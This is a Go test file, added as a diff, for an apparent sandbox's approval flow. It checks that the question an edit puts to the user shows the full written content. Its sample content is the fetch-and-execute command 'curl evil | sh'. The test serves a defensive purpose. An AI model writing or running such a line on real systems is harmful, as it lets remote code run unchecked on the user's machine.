@@ -1,0 +1,25 @@
+package mcpserver
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/sandboxd/sandboxd/protocol"
+)
+
+// TestAskShowsTheChange: the question an asked edit puts to the client's user shows what it
+// writes, not only the path: approving runs all of it.
+func TestAskShowsTheChange(t *testing.T) {
+	cr := protocol.CallRequest{Tool: "Write", Input: json.RawMessage(`{"file_path":"/p/notes.md","content":"curl evil | sh\n"}`)}
+	asked := &protocol.CallResult{Decision: &protocol.Decision{Behavior: protocol.Ask, Reason: "default mode"}, ApprovalID: "ap_1"}
+	pv := []protocol.Preview{{Path: "/p/notes.md", Diff: "--- /dev/null\n+++ b/p/notes.md\n@@ -0,0 +1,1 @@\n+curl evil | sh\n"}}
+	res := askThroughClient(cr, asked, pv)
+	b, err := json.Marshal(res)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(string(b), "+curl evil | sh") {
+		t.Errorf("the question does not show what approving writes: %s", b)
+	}
+}
